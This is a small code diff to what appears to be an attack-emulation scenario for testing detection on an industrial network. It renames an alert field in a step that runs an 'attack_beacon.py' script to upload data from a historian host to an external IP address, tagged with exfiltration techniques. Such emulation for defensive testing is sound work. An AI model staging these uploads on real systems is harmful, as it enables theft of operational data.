@@ -12,7 +12,7 @@ def play(stage):
     stage.inference(60, "--serve", "10.20.0.5", past, period=3)
     stage.wait(25)
     with stage.step("three uploads to a public address", actors=("historian",), targets=("cloud",),
-                    techniques=("T0882", "AML.T0025"), alerts=("boundary.internet",),
+                    techniques=("T0882", "AML.T0025"), expected=("boundary.internet",),
                     evidence="ip.src == {historian} && ip.dst == {cloud}"):  # fmt: skip
         stage.done(stage.python("historian", "attack_beacon.py", "192.31.196.80", 80, 3, "/upload", past))
     stage.wait(10)
